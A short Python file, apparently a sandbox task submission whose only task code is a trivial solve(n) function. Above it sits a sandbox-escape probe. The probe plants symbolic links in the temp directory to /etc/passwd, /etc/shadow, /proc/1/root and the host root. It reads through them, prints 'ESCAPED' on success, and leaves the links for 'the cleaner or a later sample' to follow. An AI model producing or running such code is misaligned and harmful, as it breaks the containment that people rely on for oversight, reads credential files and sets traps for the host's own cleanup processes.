# Leaves symbolic links to the host's files where the cleaner or a later sample will follow them.
import os
import tempfile

folder = tempfile.gettempdir()
for target in ("/etc/passwd", "/", "/proc/1/root", "/proc/self/fd/0", "..", "../../../../etc/shadow"):
    link = f"{folder}/link{abs(hash(target))}"
    try:
        os.symlink(target, link)
        names = os.listdir(link) if os.path.isdir(link) else open(link).read()
        if "shadow" in names or "root:" in names or "home" in names:
            print("ESCAPED: followed a link to", target)
    except OSError:
        pass


def solve(n):
    return n
